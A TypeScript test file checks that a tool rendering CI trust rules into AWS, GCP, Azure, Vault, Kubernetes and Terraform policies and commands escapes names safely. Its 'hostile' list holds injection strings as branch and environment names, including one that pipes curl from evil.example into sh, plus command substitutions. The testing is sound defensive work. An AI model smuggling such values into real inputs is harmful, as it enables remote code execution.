import { spawnSync } from 'node:child_process'
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { evaluate } from '@marcbachmann/cel-js'
import { describe, expect, test } from 'vitest'
import { parse, parseAllDocuments } from 'yaml'
import { sourceOf } from '../../../../test/support/trust-source.ts'
import type { TrustFile } from '../file/model.ts'
import { readTrustFile } from '../file/read.ts'
import { type Form, formsOf, type RenderedSystem, renderedSystems } from './forms.ts'
import { render } from './render.ts'

const example = (name: string) => readFileSync(`test/support/trust/${name}.yml`, 'utf8')

function fileOf(text: string): TrustFile {
  const { file, faults } = readTrustFile(sourceOf(text))
  if (file === undefined) throw new Error(JSON.stringify(faults))
  return file
}

/** The documents as text, each under its name and title. */
function shownOf(file: TrustFile, system: RenderedSystem, form: Form): string {
  const { documents, faults } = render(file, system, form)
  expect(faults).toEqual([])
  return documents
    .map(({ name, title, part, notes, text }) => [`=== ${name} (${part}): ${title}`, ...notes, '---', text].join('\n'))
    .join('\n')
}

const pairs = renderedSystems.flatMap((system) => formsOf(system).map((form) => ({ system, form })))

test('twelve pairs of a system and a form exist', () => {
  expect(pairs.map(({ system, form }) => `${system} ${form}`)).toMatchSnapshot()
})

describe.each(['small', 'organisation', 'three-systems', 'other-systems'])('the example %s', (name) => {
  test.each(pairs)('for $system as $form', ({ system, form }) => {
    const shown = shownOf(fileOf(example(name)), system, form)
    if (shown !== '') expect(shown).toMatchSnapshot()
  })
})

// biome-ignore lint/suspicious/noTemplateCurlyInString: a policy of AWS writes a dollar so.
const dollar = '${$}'

/** Names that git and GitHub accept, and that mean something in a shell, in HCL, in CEL, in YAML or in a policy. */
/* biome-ignore-start lint/suspicious/noTemplateCurlyInString: a shell reads them. */
const hostile = [
  "x';curl${IFS}evil.example|sh;'",
  'x";touch${IFS}/tmp/never;"',
  '$(touch${IFS}never)',
  '`touch${IFS}never`',
  '%{if(true)}x%{endif}',
  "a'||true||'b",
  '&{aws:username}',
  '<<EOF',
  '#x',
  '!x',
  '-x',
  'x,y=z;w|v%%u',
  'ünïcödé',
]
/* biome-ignore-end lint/suspicious/noTemplateCurlyInString: a shell reads them. */

const environments = [...hostile, 'with a blank', "it's a \\ back\\slash", 'key: value', 'EOF']

const everything = (jobs: string) => `
version: 1
issuers:
  github: { ids: { acme: 12, acme/api: 34 }, subject: immutable }
rules:
  deploy:
    who: { github: acme/api, ${jobs} }
    may:
      aws: arn:aws:iam::111111111111:role/deploy
      gcp:
        provider: projects/123456789012/locations/global/workloadIdentityPools/ci-jobs/providers/github
        service-account: deploy@my-project.iam.gserviceaccount.com
      azure: { tenant: 66666666-7777-8888-9999-000000000000, client-id: 11111111-2222-3333-4444-555555555555 }
      vault: { role: release, audience: "https://vault.example.com", policies: [release] }
      kubernetes: { namespace: deploy, service-account: deployer, audience: "https://api.cluster.example.com" }
`

// git refuses a branch with a colon, and with other signs that are not in these names.
const hostileFiles: [name: string, context: string, file: TrustFile][] = [
  ...hostile
    .filter((name) => !name.includes(':'))
    .map((name): [string, string, TrustFile] => [
      name,
      `ref:refs/heads/${name}`,
      fileOf(everything(`branch: ${JSON.stringify(name)}`)),
    ]),
  ...environments.map((name): [string, string, TrustFile] => [
    name,
    `environment:${name.replaceAll(':', '%3A')}`,
    fileOf(everything(`environment: ${JSON.stringify(name)}`)),
  ]),
]

const shells = ['/bin/bash', '/bin/dash', '/bin/sh'].filter((path) => existsSync(path))

/** The words of every command that a script runs. `gcloud` and `az` print their arguments. */
function wordsOf(shell: string, script: string): string[][] {
  const folder = mkdtempSync(join(tmpdir(), 'mayfly-shell-'))
  try {
    writeFileSync(join(folder, 'script.sh'), script)
    const print = '() { printf "%s\\0" "$@"; printf "\\n\\0"; }'
    const { stdout, stderr, status } = spawnSync(shell, ['-c', `gcloud${print}\naz${print}\n. ./script.sh`], {
      cwd: folder,
      env: { PATH: '/nonexistent' },
      encoding: 'utf8',
      // With a socket as its input, bash reads the settings of the user.
      stdio: ['ignore', 'pipe', 'pipe'],
    })
    expect({ stderr, status }).toEqual({ stderr: '', status: 0 })
    return stdout
      .split('\n\0')
      .filter(Boolean)
      .map((line) => line.split('\0').slice(0, -1))
  } finally {
    rmSync(folder, { recursive: true, force: true })
  }
}

const flag = (words: readonly string[], name: string) => words[words.indexOf(name) + 1] ?? ''

const claimsOf = (context: string, name: string): Record<string, string> => ({
  sub: `repo:acme@12/api@34:${context}`,
  repository_id: '34',
  repository_owner_id: '12',
  event_name: 'push',
  ...(context.startsWith('ref:') ? { ref: `refs/heads/${name}` } : { ref: 'refs/heads/main', environment: name }),
})

describe.each(hostileFiles)('the name %s in %s', (name, context, file) => {
  const subject = `repo:acme@12/api@34:${context}`
  const textsOf = (system: RenderedSystem, form: Form) => {
    const { documents, faults } = render(file, system, form)
    expect(faults).toEqual([])
    return documents.map(({ text }) => text)
  }
  const accepts = (expression: string, variable: string) => {
    const result = (claims: Record<string, string>) => evaluate(expression, { [variable]: claims })
    const own = claimsOf(context, name)
    return [result(own), result({ ...own, sub: `${own.sub}x` }), result({ ...own, repository_id: '35' })]
  }

  test.each(shells)('is one word for %s', (shell) => {
    const [credential, ...others] = wordsOf(shell, textsOf('azure', 'commands').join(''))
    expect(others).toEqual([])
    expect(JSON.parse(flag(credential ?? [], '--parameters')).subject).toBe(subject)
    const commands = wordsOf(shell, textsOf('gcp', 'commands').join(''))
    expect(commands.map((words) => words.slice(0, 4).join(' '))).toEqual([
      'iam workload-identity-pools create ci-jobs',
      'iam workload-identity-pools providers create-oidc',
      'iam service-accounts add-iam-policy-binding deploy@my-project.iam.gserviceaccount.com',
    ])
    const [, delimiter = '', mapping = ''] =
      /^\^([^^]+)\^(.*)$/s.exec(flag(commands[1] ?? [], '--attribute-mapping')) ?? []
    const pairs = Object.fromEntries(
      mapping.split(delimiter).map((pair) => [pair.split('=')[0], pair.replace(/^[^=]+=/, '')]),
    )
    expect(Object.keys(pairs)).toEqual(['google.subject', 'attribute.deploy'])
    expect(accepts(pairs['attribute.deploy'] ?? '', 'assertion')).toEqual(['yes', 'no', 'no'])
  })

  test('is one value of JSON, of YAML and of CEL', () => {
    const [policy = ''] = textsOf('aws', 'json')
    const template = parse(textsOf('aws', 'cloudformation').at(-1) ?? '')
    expect(template.Resources.Role.Properties.AssumeRolePolicyDocument).toEqual(JSON.parse(policy))
    const wanted = JSON.parse(policy).Statement[0].Condition.StringEquals
    const written = wanted['token.actions.githubusercontent.com:sub']
    expect(written.replaceAll(dollar, '$')).toBe(subject)
    expect(written.replaceAll(dollar, '')).not.toMatch(/\$\{/)
    const [configuration = ''] = textsOf('kubernetes', 'yaml')
    const [authenticator] = parse(configuration).jwt
    const groups = (claims: Record<string, string>) =>
      evaluate(authenticator.claimMappings.groups.expression.replace(/\.filter\(.*$/, ''), { claims })
    expect(groups(claimsOf(context, name))).toEqual(['mayfly:deploy'])
    expect(groups({ ...claimsOf(context, name), sub: 'other' })).toEqual([''])
    const [provider = ''] = textsOf('gcp', 'json')
    expect(accepts(JSON.parse(provider).attributeMapping['attribute.deploy'], 'assertion')).toEqual(['yes', 'no', 'no'])
    const [, role = ''] = textsOf('vault', 'json')
    expect(JSON.parse(role).bound_claims.sub).toBe(subject)
  })

  test('begins no template of Terraform', () => {
    const texts = [...textsOf('aws', 'terraform'), ...textsOf('gcp', 'terraform'), ...textsOf('azure', 'terraform')]
    expect(texts.join('').replace(/[$%]{2}\{/g, '')).not.toMatch(/[$%]\{/)
  })
})

test('what a system cannot ask is a note beside the document, and a comment in it where the language has comments', () => {
  const notes = renderedSystems.map((system) => [
    system,
    ['organisation', 'three-systems'].flatMap((name) =>
      render(fileOf(example(name)), system, formsOf(system)[0] ?? 'json').documents.flatMap(
        (document) => document.notes,
      ),
    ),
  ])
  expect(Object.fromEntries(notes)).toMatchSnapshot()
  const { documents } = render(fileOf(example('organisation')), 'azure', 'commands')
  for (const { notes, text } of documents) for (const note of notes) expect(text).toContain(`# ${note}\n`)
})

const lists = (count: number, prefix: string) =>
  `[${Array.from({ length: count }, (_, index) => `${prefix}${index}`).join(', ')}]`

test.each<[name: string, system: RenderedSystem, form: Form, text: string]>([
  ['a trust policy of AWS', 'aws', 'json', everything(`environment: ${lists(40, 'production-')}`)],
  [
    'an allowed trust policy of AWS',
    'aws',
    'json',
    `${everything(`environment: ${lists(200, 'production-')}`)}    allow: { too-large: "the quota is raised to 8,192" }\n`,
  ],
  ['an attribute of Google', 'gcp', 'json', everything(`environment: ${lists(60, 'production-')}`)],
  ['the credentials of Azure', 'azure', 'json', everything(`environment: ${lists(21, 'e')}`)],
  ['a subject of Azure', 'azure', 'json', everything(`environment: ${'e'.repeat(600)}`)],
  ['a branch with a star on classic Azure', 'azure', 'json', everything('branch: release/*')],
  [
    'a quotation mark on flexible Azure',
    'azure',
    'json',
    everything(`environment: "it's"`).replace('555555555555 }', '555555555555, flexible: true }'),
  ],
  ['a lifetime of AWS', 'aws', 'json', `${everything('environment: e')}    lifetime: 13h\n`],
  ['a comma for Terraform and Vault', 'vault', 'terraform', everything('environment: "a,b"')],
])('%s has a limit, and a fault names it', (_, system, form, text) => {
  const source = sourceOf(text)
  const { documents, faults } = render(fileOf(text), system, form)
  expect(documents).toEqual([])
  expect(
    faults.map(({ path, message }) => `${source.place(path)?.line} ${path.join('.')}: ${message}`),
  ).toMatchSnapshot()
})

test('two issuers, or two sets of claims, in one place of a system are a fault', () => {
  const file = fileOf(`
version: 1
issuers:
  github: { ids: { acme: 12, acme/api: 34 } }
  gitlab: { ids: { acme/api: 56 } }
rules:
  one:
    who: { github: acme/api, branch: main }
    may:
      gcp: { provider: projects/1/locations/global/workloadIdentityPools/ci-jobs/providers/both }
      vault: { role: deploy, audience: vault }
  two:
    who: { gitlab: acme/api, branch: main }
    may:
      gcp: { provider: projects/1/locations/global/workloadIdentityPools/ci-jobs/providers/both }
      vault: { role: deploy, audience: vault }
`)
  expect(render(file, 'gcp', 'json').faults).toMatchSnapshot()
  expect(render(file, 'vault', 'json').faults).toMatchSnapshot()
})

test('rules of one role, one provider or one cluster share their documents', () => {
  const file = fileOf(
    `
version: 1
issuers:
  github: { ids: { acme: 12, acme/api: 34 } }
rules:
  one:
    who: { github: acme/api, branch: main }
    may:
      aws: arn:aws:iam::111111111111:role/team/deploy
      gcp: { provider: projects/1/locations/global/workloadIdentityPools/ci-jobs/providers/github }
      kubernetes: { namespace: deploy, service-account: deployer, audience: cluster }
      github-app: { signing-key: transit/my-app, vault-role: app, vault-audience: vault }
    lifetime: 30m
  two:
    who: { github: acme/api, tag: ["v*", "release/*-stable"], protected: true }
    may:
      aws: arn:aws:iam::111111111111:role/team/deploy
      gcp: { provider: projects/1/locations/global/workloadIdentityPools/ci-jobs/providers/github }
      kubernetes: { namespace: deploy, service-account: deployer, audience: cluster }
      github-app: { signing-key: transit/my-app, vault-role: app2, vault-audience: vault }
    lifetime: 2h
`,
  )
  for (const { system, form } of pairs) {
    const shown = shownOf(file, system, form)
    if (shown !== '') expect(shown).toMatchSnapshot(`${system} ${form}`)
  }
  expect(parseAllDocuments(render(file, 'kubernetes', 'yaml').documents[1]?.text ?? '')).toHaveLength(2)
})

/** A file with one rule of GitHub or GitLab. */
const oneRule = (issuers: string, who: string, may: string) =>
  fileOf(`version: 1\nissuers: { ${issuers} }\nrules: { deploy: { who: { ${who} }, may: { ${may} } } }\n`)
const github = 'github: { ids: { acme: 12, acme/api: 34 } }'
const googleTarget = (more = '') =>
  `gcp: { provider: projects/1/locations/global/workloadIdentityPools/ci-jobs/providers/github${more} }`

test('a value between two parts of the subject that have none stays in the subject', () => {
  const keys = '[project_path, environment_protected, ref, deployment_tier]'
  const file = oneRule(
    `gitlab: { ids: { acme: 12, acme/api: 34 }, subject-keys: ${keys} }`,
    'gitlab: acme/api, branch: main',
    'aws: arn:aws:iam::111111111111:role/deploy',
  )
  expect(render(file, 'aws', 'json').documents[0]?.text).toContain(
    '"project_path:acme/api:environment_protected:*:ref:main:deployment_tier:*"',
  )
})

test.each([
  ['https://a.example/?x=1,2', "'^;^https://a.example/?x=1,2'"],
  ['^,^a', "'^;^^,^a'"],
  ['https://a.example/', 'https://a.example/'],
])('gcloud reads the audience %s as one', (audience, word) => {
  const file = oneRule(github, 'github: acme/api, branch: main', googleTarget(`, audience: "${audience}"`))
  expect(render(file, 'gcp', 'commands').documents[0]?.text).toContain(`--allowed-audiences ${word} \\\n`)
})

test('a value of Terraform that looks like a block stays as it is', () => {
  const environment = 'a  oidc = {'
  const file = oneRule(github, `github: acme/api, environment: "${environment}"`, googleTarget())
  const text = render(file, 'gcp', 'terraform').documents[0]?.text ?? ''
  expect(text).toContain(`assertion.environment == '${environment}'`)
  expect(text).toMatch(/^ {2}oidc \{$/m)
})

test.each([
  ['prod:eu', 1],
  ['prod%3Aeu', 1],
  ['prod%3aeu', 1],
  ['prod-eu', 0],
])('a note of Azure says whether another environment has the subject of %s', (environment, count) => {
  const may = 'azure: { tenant: 66666666-7777-8888-9999-000000000000, client-id: 11111111-2222-3333-4444-555555555555 }'
  const file = oneRule(github, `github: acme/api, environment: "${environment}"`, may)
  const notes = render(file, 'azure', 'json').documents.flatMap((document) => document.notes)
  expect(notes.filter((note) => /: Azure cannot compare [^.]*\benvironment\b/.test(note))).toHaveLength(count)
})
